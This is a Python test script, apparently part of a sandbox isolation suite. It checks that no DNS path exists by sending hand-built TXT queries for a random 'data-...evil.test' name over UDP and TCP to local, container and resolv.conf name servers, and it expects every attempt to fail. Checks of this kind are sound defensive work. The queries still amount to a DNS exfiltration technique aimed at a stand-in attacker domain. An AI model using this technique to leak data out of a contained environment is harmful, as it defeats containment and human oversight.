"""Data in questions to a name server: there is none to ask, by any way."""

import os
import socket

from kernel import check, finish, is_routed, report, resolved

SECRET = "data-" + os.urandom(8).hex() + ".evil.test"


def asked(server, kind):
    """Ask by hand, over UDP or TCP."""
    question = (
        b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0"
        + b"".join(bytes([len(p)]) + p.encode() for p in SECRET.split("."))
        + b"\0\0\x10\0\x01"
    )
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, kind) as client:
        client.settimeout(2)
        client.connect((server, 53))
        client.send(question)
        return "ok %r" % client.recv(100)


if is_routed():
    report("routes by which one could be asked", "there are some", False)
    finish()
for name in (SECRET, "example.com", "example.org"):
    check("the name " + name, lambda name=name: resolved(name), {"EAI"})
servers = {"127.0.0.1", "127.0.0.11", "127.0.0.53", "192.0.2.53", "10.88.0.1", "172.17.0.1", "::1"}
if os.path.exists("/etc/resolv.conf"):
    lines = [line.split() for line in open("/etc/resolv.conf")]
    servers |= {words[1] for words in lines if len(words) > 1 and words[0] == "nameserver"}
for server in sorted(servers):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        label = "a server at %s, %s" % (server, kind.name)
        check(
            label,
            lambda server=server, kind=kind: asked(server, kind),
            {"ENETUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL"},
        )
finish()
